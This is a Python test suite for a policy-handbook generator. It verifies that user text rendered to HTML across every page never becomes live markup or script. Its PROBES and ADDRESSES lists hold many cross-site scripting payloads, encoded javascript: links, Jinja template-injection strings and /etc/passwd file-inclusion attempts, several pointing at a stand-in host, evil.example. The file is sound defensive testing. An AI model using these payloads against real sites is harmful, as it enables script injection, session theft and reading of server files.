"""Safe text: what is allowed works, everything else is shown as it was typed, in every field and on every page."""

import json
import re
from collections.abc import Iterator
from datetime import date
from functools import cache
from html.parser import HTMLParser
from typing import Any, Final

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from handbook_gen import sources
from handbook_gen.core import pipeline, text
from handbook_gen.core.links import link
from handbook_gen.core.loader import Sources, load
from handbook_gen.core.model.book import Handbook
from tests.case import base

# What a text may become. Attributes that our own templates set are looked at by name and by value below.
TAGS: Final = {"p", "em", "strong", "code", "a", "ul", "ol", "li", "br"}
URLS: Final = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset", "background", "cite"}
SAFE: Final = re.compile(r"(?:https?:|mailto:|tel:|#|\./|\.\./|[a-z0-9]+[/?]|$)", re.IGNORECASE)
VOID: Final = {"br", "img", "input", "meta", "link", "hr"}


class Parsed(HTMLParser):
    """What a browser would make of some HTML: elements with attributes, and the words."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.open: list[str] = []
        self.unbalanced: list[str] = []
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        if self.open and self.open[-1] == tag:
            self.open.pop()
        else:
            self.unbalanced.append(tag)

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)


def dangers(html: str) -> list[str]:
    """Name what is not safe in HTML of ours, wherever it came from."""
    parsed = Parsed(html)
    found = [f"<{tag}>" for tag in parsed.unbalanced + parsed.open] + parsed.others
    for tag, attributes in parsed.elements:
        found += [tag] * (tag in {"script", "iframe", "object", "embed", "style", "form", "img", "base", "link", "meta"})
        found += [name for name in attributes if name.startswith("on") or name in ("style", "srcdoc")]
        urls = {name: "".join((value or "").split()) for name, value in attributes.items() if name in URLS}
        found += [f"{name}={url}" for name, url in urls.items() if not SAFE.match(url)]
    return found


def linked(target: str) -> Markup:
    return Markup('<a href="../{}">{}</a>').format("x", target)


def html(words: str) -> str:
    return str(text.html(words, linked))


def strange(words: str) -> list[str]:
    """Name what a text became that no text may become."""
    parsed = Parsed(html(words))
    tags = [tag for tag, _ in parsed.elements if tag not in TAGS]
    allowed = {"a": {"href", "rel"}, "ol": {"start"}}
    attributes = [name for tag, given in parsed.elements for name in given if name not in allowed.get(tag, set())]
    return tags + attributes + dangers(html(words))


PROBES: Final = [
    # Raw HTML.
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<b onmouseover=alert(1)>x</b>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=q></form>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "</p></section></article><h1>Taken over</h1>",
    "<math><mtext></p><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "\n\n<div>\n\n<script>\nalert(1)\n</script>\n\n</div>\n",
    "<p id=DISC-01 data-rule>x",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onfocus=alert(1) autofocus="',
    "<x" + " " * 50 + "onclick=alert(1)>",
    "<a\nhref=javascript:alert(1)>x</a>",
    # Links in every spelling.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](https://a.example/\"onclick=\"alert(1))",
    "[x](https://a.example/ \"onclick=alert(1)\")",
    "[x](https://a.example/ '\"><script>alert(1)</script>')",
    "[x](mailto:a@b.example?subject=<script>)",
    "[<img src=x onerror=alert(1)>](https://a.example/)",
    "[[x](javascript:alert(1))](https://a.example/)",
    "[x](https://a.example/[y](javascript:alert(1)))",
    "[a]: javascript:alert(1)\n\n[a]",
    "[x][a]\n\n[a]: data:text/html,x",
    "<javascript:alert(1)>",
    "<https://a.example/?q=<script>>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![\" onerror=\"alert(1)](x)",
    # Entities, control characters and other alphabets.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;",
    "\x02DISC-01\x03",
    "\x02</a><script>alert(1)</script>\x03",
    "\x02\x03[[\x02]]\x03",
    "\ue0000\ue001",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    # Brackets, code and nesting.
    "[[<script>alert(1)</script>]]",
    '[["><img src=x onerror=alert(1)>]]',
    "[[DISC-01\" onclick=\"alert(1)]]",
    "[[[DISC-01]]](javascript:alert(1))",
    "[[[[DISC-01]]]]",
    "`<script>alert(1)</script>`",
    "``` html\n<script>alert(1)</script>\n```",
    "`[[<b>]]` [[`<b>`]]",
    "*<b>* **<i>** _<u>_",
    "1. <script>\n2. </script>",
    "- [x](javascript:alert(1))\n  - <img src=x onerror=alert(1)>",
    "999999999999999. a",
    "1\" onclick=\"alert(1). a",
    # What MkDocs, its extensions and Jinja would act on.
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include 'rule.html' %}",
    "{% raw %}{{ 7 * 7 }}{% endraw %}",
    "{# a comment #}",
    "{{% 7 * 7 %}}",
    '--8<-- "/etc/passwd"',
    "--8<--\n/etc/passwd\n--8<--",
    "x{: onclick=alert(1) }",
    "# x {: #DISC-01 onclick='alert(1)' }",
    "!!! danger \"<img src=x onerror=alert(1)>\"\n    x",
    "??? x\n    y",
    "=== \"<script>\"\n    x",
    "[^1]\n\n[^1]: <script>",
    "*[HTML]: <script>alert(1)</script>",
    ":material-alert:{ onclick=alert(1) }",
    "$$\\href{javascript:alert(1)}{x}$$",
    "[TOC]",
    "| a | b |\n|---|---|\n| <script> | x |",
    "<div markdown='1'>**x**</div>",
    "%(name)s {0} {name} ${x}",
    "\\<script\\>alert(1)\\</script\\>",
    "~~~\n<script>\n~~~",
]


@pytest.mark.parametrize("probe", PROBES, ids=repr)
def test_no_probe_comes_to_life_in_a_text(probe: str) -> None:
    assert strange(probe) == []
    assert strange(f"a {probe} b") == []
    assert strange(f"- {probe}\n\n1. *{probe}*") == []


PIECES = st.sampled_from(
    ["<", ">", "</", "/>", "<script", "<a href=", "<img src=x onerror=alert(1)", "<!--", "-->", "<![CDATA[", "]]>", "<?"]
    + ["javascript:", "data:", "vbscript:", "https://a.example/", "&#106;", "&lt;", "&colon;", "&#x0A;", "\\", '"', "'", "="]
    + ["[", "](", "]", ")", "[[", "]]", "[[hr]]", "[[DISC-01]]", "[[term:", "![", "`", "``", "```", "*", "**", "_", "~~"]
    + [" ", "\n", "\n\n", "\n- ", "\n1. ", "\n> ", "    ", "\t", "# ", "|", "{{", "}}", "{%", "%}", "{:", "}", "onclick="]
    + ["a", "b", "é", "😀", "\x02", "\x03", "\x00", "\ue000", "\ue001", "\u202e", "script>", "alert(1)", "x", "hr"]
)
DANGEROUS = st.lists(PIECES, max_size=30).map("".join)


@given(DANGEROUS | st.text())
def test_nothing_comes_to_life_whatever_the_text(words: str) -> None:
    assert strange(words) == []


@given(DANGEROUS | st.text())
@example("- a\n- b")
@example("a *b*")
@example("a\n\nb &amp; <c>")
def test_the_plain_words_of_a_text_are_those_that_a_browser_shows(words: str) -> None:
    whole = text.html(words, linked)

    assert text.plain(whole) == " ".join(Parsed(str(whole)).words.split())


@given(st.text(st.characters(exclude_characters="*_`[]<>\\~\n\r&#-+", exclude_categories=["Cc", "Cs", "Zs", "Zl", "Zp"]), min_size=1))
def test_plain_words_are_shown_as_they_are(words: str) -> None:
    assert Parsed(html(f"a{words}")).words.strip() == f"a{words}"


@pytest.mark.parametrize("probe", ["<b>x</b>", "5 < 6 & 7 > 2", "&amp;", "![a](b)", "# a", "> a", "a | b", "{{ x }}", "~~a~~"])
def test_what_is_not_allowed_is_shown_as_it_was_typed(probe: str) -> None:
    assert Parsed(html(f"{probe}")).words.strip() == probe


@pytest.mark.parametrize(
    ("words", "becomes"),
    [
        ("a", "<p>a</p>"),
        ("a\n\nb", "<p>a</p>\n<p>b</p>"),
        ("*a* _b_", "<p><em>a</em> <em>b</em></p>"),
        ("**a** __b__", "<p><strong>a</strong> <strong>b</strong></p>"),
        ("`a < b`", "<p><code>a &lt; b</code></p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>'),
        ("- a\n  - b", "<ul>\n<li>a\n<ul>\n<li>b</li>\n</ul>\n</li>\n</ul>"),
        ("a  \nb", "<p>a<br>\nb</p>"),
        (r"\*a\*", "<p>*a*</p>"),
        ("snake_case_word", "<p>snake_case_word</p>"),
    ],
)
def test_what_is_allowed_works(words: str, becomes: str) -> None:
    assert html(words).strip() == becomes
    assert text.unsupported(words) == ()


@pytest.mark.parametrize("url", ["https://a.example/b?c=d&e=f#g", "http://a.example", "mailto:hr@a.example", "tel:+31205550100"])
def test_links_with_a_safe_scheme_work(url: str) -> None:
    (_, attributes), *others = [e for e in Parsed(html(f"Read [*this*]({url}) now.")).elements if e[0] == "a"]

    assert attributes["href"] == url
    assert others == []
    assert text.unsupported(f"[this]({url})") == ()


def test_a_mention_becomes_what_it_is_told_to_be() -> None:
    assert html("See [[DISC-01]].") == '<p>See <a href="../x">DISC-01</a>.</p>\n'
    assert html("**[[a]]** `[[b]]`") == '<p><strong><a href="../x">a</a></strong> <code>[[b]]</code></p>\n'
    assert text.plain(text.html("See *the* [[DISC-01]].", linked)) == "See the DISC-01."


@given(DANGEROUS)
def test_mentions_are_found_where_they_are_rendered(words: str) -> None:
    """The linker must not miss what readers would click on."""
    rendered: list[str] = []
    typed = words.replace("\x02", "").replace("\x03", "").strip()

    text.html(typed, lambda target: rendered.append(target) or Markup(""))
    found = [mention.target for mention in text.mentions(typed)]
    assert [target for target in rendered if target not in found] == []


@given(DANGEROUS)
def test_a_mention_stands_where_it_says(words: str) -> None:
    for mention in text.mentions(words):
        assert words[mention.start : mention.end] == f"[[{mention.target}]]"


@given(DANGEROUS)
def test_leaving_code_out_keeps_every_offset(words: str) -> None:
    assert len(text.without_code(words)) == len(words)


@pytest.mark.parametrize(
    ("words", "names"),
    [
        ("# a", 1),
        ("a <b>c</b>", 1),
        ("<div>\na\n</div>", 1),
        ("![a](https://b.example/c.png)", 1),
        ("> a", 1),
        ("```\na\n```", 1),
        ("a\n\n    b", 1),
        ("a\n\n---\n\nb", 1),
        ("| a |\n|---|\n| b |", 1),
        ("~~a~~", 1),
        ("[a](javascript:b)", 1),
        ("[a](../b/)", 1),
        ("<https://a.example>", 1),
        ("# a\n\n> b\n\n# c", 2),
        ("`<b>` and 5 > 3", 0),
        ("[[DISC-01]] and [a](https://b.example)", 0),
        ("a - b # c > d | e", 0),
        ("a\n===", 1),
        ("[a]: https://b.example\n\n[a]", 1),
        ("[a][b]\n\n[b]: https://c.example", 1),
        ("&copy; 2027", 1),
    ],
)
def test_what_is_shown_as_typed_is_named(words: str, names: int) -> None:
    assert len(text.unsupported(words)) == names


@given(DANGEROUS | st.text())
def test_naming_what_is_shown_as_typed_never_raises(words: str) -> None:
    assert all(text.unsupported(words))


@given(DANGEROUS)
def test_taking_the_paragraph_away_keeps_the_words(words: str) -> None:
    whole = text.html(words, linked)

    assert Parsed(str(text.unwrapped(whole))).words.strip() == Parsed(str(whole)).words.strip()
    assert dangers(text.unwrapped(whole)) == []


# The whole way: a policy with a probe in every field that takes words, on every page.


def items(number: int, probe: str) -> dict[str, dict[str, list[Any]]]:
    """Make one item of each kind with the probe in every field of it, by file and key."""
    said = {"nl": probe, "en": probe}
    line = {language: " ".join(words.split()) for language, words in said.items()}
    terms = {language: [words] for language, words in line.items()}
    me = f"i{number}"
    rule = {"id": f"A-{number}", "title": line, "modality": "must", "statement": said, "because": said, "rights": said}
    rule |= {"examples": {"do": [said], "dont": [said]}, "keywords": terms, "consequence": said, "law": [me]}
    rule |= {"exceptions": [{"text": said}], "conditions": [{"when": "a", "note": said}], "basis": {"notice": said}}
    rule |= {"references": [{"title": line, "url": "https://a.example/", "quality": line}], "audience": [f"r{me}"]}
    rule |= {"escalation": f"l{me}", "channels": [f"c{me}"], "ask": f"r{me}", "owner": f"r{me}"}
    gone = {"id": f"B-{number}", "title": line, "modality": "may", "statement": said, "status": "withdrawn"}
    contact = {"chat": line["nl"], "mail": "a@b.example", "phone": "+31 20 555 01 00", "hours": "24/7"}
    role = {"id": f"r{me}", "name": line, "tasks": said, "competence": said, "contact": contact, "stand_in": f"r{me}"}
    channel = {"id": f"c{me}", "platform": "linkedin", "name": line, "because": said, "characteristics": said}
    channel |= {"replies": {"outside_hours": said}, "custody": {"leavers": said, "store": line["nl"]}, "cost": said}
    channel |= {"expected_return": said, "retirement": said, "status": "open", "owner": f"r{me}"}
    level = {"id": f"l{me}", "name": line, "when": said, "decides": said, "owner": f"r{me}", "inform": [f"r{me}"]}
    word = {"id": f"W-{number}", "status": "avoid", "terms": terms, "prefer": line, "because": said}
    return {
        "roles.yml": {"roles": [role], "audiences": [{"id": f"g{me}", "name": line, "roles": [f"r{me}"]}]},
        "rules/t.yml": {"rules": [rule, gone]},
        "channels.yml": {"channels": [channel]},
        "webcare.yml": {"targets": [{"id": me, "first_reply": "1h", "because": said}], "escalation": [level]},
        "tone.yml": {
            "traits": [{"id": me, "name": line, "text": said, "do": [said], "dont": [said]}],
            "profiles": [{"id": me, "name": line, "traits": [me]}],
            "vocabulary": [word],
        },
        "glossary.yml": {"terms": [{"id": me, "name": line, "text": said, "synonyms": terms}]},
        "law.yml": {"law": [{"id": me, "title": line, "article": line["nl"], "jurisdiction": line["nl"]}]},
    }


def policy(*probes: str) -> dict[str, Any]:
    """Make a policy with each probe in items of its own; the first is in the settings and the topic as well."""
    line = {"nl": " ".join(probes[0].split()), "en": "a"}
    organisation = {"id": "o", "name": line, "sector": line["nl"], "jurisdictions": [line["nl"]]}
    files: dict[str, Any] = {
        "handbook.yml": {"schema": "1", "organisation": organisation, "ask": "ri0"},
        "rules/t.yml": {"topic": {"id": "t", "name": line, "summary": {"nl": probes[0]}}},
    }
    for number, probe in enumerate(probes):
        for path, lists in items(number, probe).items():
            for key, more in lists.items():
                files.setdefault(path, {}).setdefault(key, []).extend(more)
    return files


def handbook(files: dict[str, Any]) -> Handbook:
    data = {path: json.dumps(file, ensure_ascii=False).encode() for path, file in files.items()}
    loaded = load(Sources("", data))
    assert loaded.policy, loaded.problems
    return link(loaded.policy, date(2027, 3, 1))[0]


def rendered(book: Handbook) -> Iterator[tuple[str, str]]:
    """Give all HTML of a handbook by the address it stands at, in Dutch."""
    edition = pipeline.edition(book, sources.words("nl"), sources.templates())
    for page in edition.pages:
        yield page.address, edition.renderer.page(page)
    yield from edition.renderer.forwards()
    for template in ("root.html", "lost.html"):
        yield template, edition.renderer.root(template, "/", (edition.renderer,))


# What a whole page of ours, such as one that forwards, has of its own; there is as much of it whatever the policy.
SHELL: Final = ("meta", "link", "script", "style", "html")


def shell(page: str) -> list[int]:
    tags = [tag for tag, _ in Parsed(page).elements]
    return [tags.count(tag) for tag in SHELL]


def ours(address: str, danger: str) -> bool:
    whole = address.startswith("r/") or address in ("root.html", "lost.html")
    return whole and (danger in SHELL or danger.lower().startswith("doctype") or danger == "<p>")


@cache
def harmless() -> dict[str, str]:
    return dict(rendered(handbook(policy("harmless"))))


def alive(*probes: str) -> list[str]:
    """Name what probes in every field brought to life anywhere in the handbook."""
    pages = dict(rendered(handbook(policy(*probes))))
    found = [f"{address}: {danger}" for address, page in pages.items() for danger in dangers(page) if not ours(address, danger)]
    twins = {address: re.sub(r"[0-9]+", "0", address).replace("B-0", "A-0") for address in pages}
    return found + [a for a, page in pages.items() if shell(page) != shell(harmless()[twins[a]])]


def test_a_harmless_policy_is_found_harmless_on_every_page() -> None:
    assert alive("harmless") == []
    assert len(harmless()) > 15
    assert all("harmless" in page for address, page in harmless().items() if address.startswith(("topics/", "roles/r")))


def typable(probe: str) -> bool:
    """Tell whether the reader lets a probe through; it refuses control characters."""
    return not re.search("[\x00-\x08\u200b\u202e]", probe)


def by_ten() -> list[list[str]]:
    typed = [probe.strip() for probe in PROBES if typable(probe)]
    return [typed[start : start + 10] for start in range(0, len(typed), 10)]


@pytest.mark.parametrize("probes", by_ten(), ids=lambda probes: repr(probes[0]))
def test_no_probe_comes_to_life_in_any_field_on_any_page(probes: list[str]) -> None:
    assert alive(*probes) == []


@settings(max_examples=4, suppress_health_check=list(HealthCheck), deadline=None)
@given(st.lists(DANGEROUS, min_size=8, max_size=8))
def test_nothing_comes_to_life_in_any_field_on_any_page(texts: list[str]) -> None:
    assert alive(*(f"a {words}" for words in texts)) == []


def test_a_name_is_shown_as_it_was_typed() -> None:
    probes = ["<b>x</b>", "{{ 7 * 7 }}", "[[nobody]]", "A & B", '"quoted"', "<script>alert(1)</script>", "*a*", "&amp;"]
    pages = dict(rendered(handbook(policy(*probes))))

    for address in ("topics/t/", "channels/", "glossary/", "tone/", "law/", "webcare/escalation/", "roles/"):
        words = Parsed(pages[address]).words
        assert [probe for probe in probes if probe not in words] == [], address


ADDRESSES: Final = [
    ("roles.yml", "mail", 'a@b.example"onclick="alert(1)'),
    ("roles.yml", "mail", "<script>@b.example"),
    ("roles.yml", "mail", "a@b.example?body=<script>"),
    ("roles.yml", "mail", "javascript:alert(1)//@b.example"),
    ("roles.yml", "phone", '1" onclick="alert(1)'),
    ("roles.yml", "phone", "1;javascript:alert(1)"),
    ("rules/t.yml", "url", "javascript:alert(1)"),
    ("rules/t.yml", "url", 'https://a.example/"onclick="alert(1)'),
    ("rules/t.yml", "url", "https://a.example/<script>"),
    ("rules/t.yml", "url", " https://a.example/"),
    ("rules/t.yml", "url", "https:javascript:alert(1)"),
    ("rules/t.yml", "url", "HTTPS://a.example/'onclick='alert(1)"),
]


@pytest.mark.parametrize(("path", "field", "probe"), ADDRESSES, ids=repr)
def test_an_address_is_refused_or_harmless(path: str, field: str, probe: str) -> None:
    files = policy("harmless")
    place = files[path]["roles"][0]["contact"] if field != "url" else files[path]["rules"][0]["references"][0]
    place[field] = probe
    data = {name: json.dumps(file).encode() for name, file in files.items()}

    assert [problem.kind.name for problem in load(Sources("", data)).problems] == ["bad-address"]


def test_a_text_in_the_other_language_is_marked_as_such() -> None:
    files = policy("harmless")
    files["glossary.yml"]["terms"][0]["text"] = {"en": "<b>*English*</b> only"}
    page = dict(rendered(handbook(files)))["glossary/"]

    assert ("div", "en") in [(tag, attributes.get("lang")) for tag, attributes in Parsed(page).elements]
    assert "<b>English</b> only" in Parsed(page).words
    assert dangers(page) == []


def test_a_name_without_any_language_does_not_break_a_page() -> None:
    files = policy("harmless")
    draft = {"id": "A-9", "title": {}, "modality": "may", "statement": {"nl": "a"}, "status": "draft"}
    files["rules/t.yml"]["rules"].append(draft)
    files["rules/t.yml"]["rules"][0]["statement"] = {"nl": "Zie [[A-9]].", "en": "See [[A-9]]."}

    assert "Zie" in dict(rendered(handbook(files)))["topics/t/"]


def test_what_yaml_escapes_cannot_pass_for_a_mention_or_a_link() -> None:
    """Control characters stand for mentions and for the way to the root on the inside, so no text may hold them."""
    data = {path.removeprefix("policies/"): data for path, data in base().items()}
    data["glossary.yml"] = rb'terms: [{id: a, name: {nl: "\x02up", en: a}, text: {nl: "\x02nobody\x03", en: "*\x02x"}}]'
    loaded = load(Sources("", data))
    assert loaded.policy
    pages = dict(rendered(link(loaded.policy, date(2027, 3, 1))[0]))

    assert "../up" not in pages["glossary/"]
    assert "[[nobody]]" not in pages["glossary/"]
